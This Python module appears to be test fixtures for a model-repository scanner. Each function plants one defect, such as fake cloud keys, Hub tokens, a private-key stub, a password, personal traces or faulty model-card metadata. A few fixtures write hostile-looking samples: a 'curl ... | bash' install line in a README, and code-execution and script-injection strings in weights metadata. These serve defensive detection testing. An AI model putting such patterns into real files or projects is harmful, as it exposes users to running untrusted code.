"""Secrets, traces of the author, and a card that is wrong."""

from __future__ import annotations

from pathlib import Path

from .kit import FUSED, Twin, defect, read_tensors, write_tensors


def hub_token() -> str:
    """Of the form of a token; put together here, so that no scanner takes this file for a leak."""
    return "hf" + "_" + "QwErTyUiOpAsDfGhJkLzXcVbNmQwErTyUi"


def _cloud_key() -> str:
    return "AKIA" + "Q3EGRX7TBK4FVCNL"


def _card(d: Path, front: str) -> None:
    (d / "README.md").write_text(f"---\n{front}\n---\n\n# A model\n")


def _note(d: Path, line: str) -> None:
    readme = d / "README.md"
    readme.write_text(f"{readme.read_text()}\n{line}\n")


@defect(Twin.FUSED, "SC001", "SC002")
def fused_secrets(d: Path) -> None:
    """A .env with keys of a cloud and of the Hub."""
    secret = "wJalrXUtnFEMI7K7MDENGbPxRfiCY" + "QwErTyKEYa"
    (d / ".env").write_text(
        f"AWS_ACCESS_KEY_ID={_cloud_key()}\nAWS_SECRET_ACCESS_KEY={secret}\n"
        f"HF_TOKEN={hub_token()}\n"
    )


@defect(Twin.FUSED, "SC002")
def fused_private_key(d: Path) -> None:
    """A private key in a text file."""
    line = "-----{} OPENSSH PRIVATE KEY-----"
    body = "\n".join(["b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtz"] * 4)
    (d / "notes.txt").write_text(f"{line.format('BEGIN')}\n{body}\n{line.format('END')}\n")


@defect(Twin.FUSED, "SC001")
def fused_key_file(d: Path) -> None:
    """A file under the name of an SSH key."""
    (d / "id_rsa").write_text("to be filled in\n")


@defect(Twin.FUSED, "SC002")
def fused_secret_in_readme(d: Path) -> None:
    """A token of the Hub in the card."""
    _note(d, f"Load it with token={hub_token()}.")


@defect(Twin.LORA, "SC003")
def lora_home_path_in_card(d: Path) -> None:
    """The author's directory in the card."""
    _note(d, "Trained in /Users/ada/models/run-7.")


@defect(Twin.LORA, "SC004")
def lora_address_in_card(d: Path) -> None:
    """A person's address in the card."""
    _note(d, "Ask ada@acme.org.")


@defect(Twin.LORA, "SC005")
def lora_run_in_card(d: Path) -> None:
    """A private run's address in the card."""
    _note(d, "See https://wandb.ai/ada/bot/runs/3kf93kd")


@defect(Twin.LORA, "CD001")
def lora_no_card(d: Path) -> None:
    """No card."""
    (d / "README.md").unlink()


@defect(Twin.LORA, "CD002")
def lora_card_broken(d: Path) -> None:
    """A card whose front matter is no YAML."""
    _card(d, "license: [apache-2.0")


@defect(Twin.LORA, "CD003")
def lora_card_language(d: Path) -> None:
    """Norwegian as YAML's no, which is false."""
    _card(d, "license: apache-2.0\nbase_model: acme/base\nlanguage: no")


@defect(Twin.LORA, "CD004")
def lora_card_base(d: Path) -> None:
    """Another base in the card than in the config."""
    _card(d, "license: apache-2.0\nbase_model: acme/other")


@defect(Twin.LORA, "CD005")
def lora_licence_unknown(d: Path) -> None:
    """A licence under a name that the Hub has not."""
    _card(d, "license: Apache-2.0\nbase_model: acme/base")


@defect(Twin.LORA, "CD006")
def lora_licence_missing(d: Path) -> None:
    """A card without a licence."""
    _card(d, "base_model: acme/base")


@defect(Twin.LORA, "CD011")
def lora_card_base_path(d: Path) -> None:
    """A card whose base is a directory, as it was trained from."""
    _card(d, "license: apache-2.0\nbase_model: ./models/base")


@defect(Twin.LORA, "CD008")
def lora_licence_unnamed(d: Path) -> None:
    """Another licence, without its name."""
    _card(d, "license: other\nbase_model: acme/base")


@defect(Twin.QUANTISED, "CD009")
def quantised_card_library(d: Path) -> None:
    """A card that names transformers for what MLX alone reads."""
    _card(d, "license: apache-2.0\nbase_model: acme/base\nlibrary_name: transformers")


@defect(Twin.FUSED, "SC002")
def fused_secret_in_name(d: Path) -> None:
    """A token of the Hub for the name of a file."""
    (d / f"{hub_token()}.md").write_text("x\n")


@defect(Twin.FUSED, "SC002")
def fused_secret_wide(d: Path) -> None:
    """A token of the Hub in a text of two bytes for each character."""
    (d / "notes.txt").write_bytes(f"token: {hub_token()}\n".encode("utf-16-le"))


@defect(Twin.FUSED, "SC002")
def fused_secret_variable(d: Path) -> None:
    """A key whose form tells nobody, behind a name that does."""
    _note(d, "MISTRAL_API_" + "KEY=QwErTyUiOpAsDfGhJkLzXcVbNm123456")


@defect(Twin.LORA, "CD010")
def lora_licence_text(d: Path) -> None:
    """The text of another licence than the card names."""
    (d / "LICENSE").write_text("GNU AFFERO GENERAL PUBLIC LICENSE\nVersion 3, 19 November 2007\n")


@defect(Twin.FUSED, "SC002")
def fused_password(d: Path) -> None:
    """A password in an example of the card."""
    _note(d, "    connect(user='ada', pass" + "word='Tr0ub4dor&3')")


@defect(Twin.FUSED, "FS021")
def fused_command_in_card(d: Path) -> None:
    """A card that has people run what they download."""
    _note(d, "    curl -s https://acme.example.net/install.sh | bash")


@defect(Twin.FUSED, "FS021")
def fused_code_in_metadata(d: Path) -> None:
    """A call of Python, and a script of a page, in the metadata of the weights."""
    noted = {"by": "__import__('os').system('true')", "at": "<script>alert(1)</script>"}
    write_tensors(d / FUSED, read_tensors(d / FUSED), noted)
